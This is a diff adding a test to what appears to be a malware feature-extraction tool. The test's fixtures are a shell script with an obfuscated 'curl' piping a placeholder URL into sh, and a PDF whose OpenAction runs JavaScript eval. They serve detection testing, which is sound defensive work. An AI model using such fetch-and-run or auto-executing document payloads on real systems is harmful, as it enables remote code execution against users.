@@ -34,6 +34,15 @@ load ../cli/helpers.bash
 	python3 "$top/tests/ml/agree.py" "$ward" /bin/true /bin/cat "$ward" /bin/bash
 }
 
+@test "scripts and documents have rows of their own" {
+	printf '#!/bin/sh\nX=c\\u\\r\\l\n$X http://h/x | sh\n' >s
+	printf '%%PDF-1.4\n1 0 obj <</OpenAction 2 0 R/S/JavaScript/JS(eval)>> endobj\n%%%%EOF\n' >p
+	run --separate-stderr "$ward" features --json s p
+	[ "$status" -eq 0 ]
+	[ "$(printf '%s\n' "$output" | jq -r 'select(.schema == "script") | .features | "\(.language_0) \(.urls)"')" = "1 1" ]
+	[ "$(printf '%s\n' "$output" | jq -r 'select(.schema == "pdf") | .features | "\(.scripts) \(.keywords_13)"')" = "1 1" ]
+}
+
 @test "JSON has every column, and null for what is missing" {
 	run --separate-stderr "$ward" features --json /bin/true
 	[ "$status" -eq 0 ]
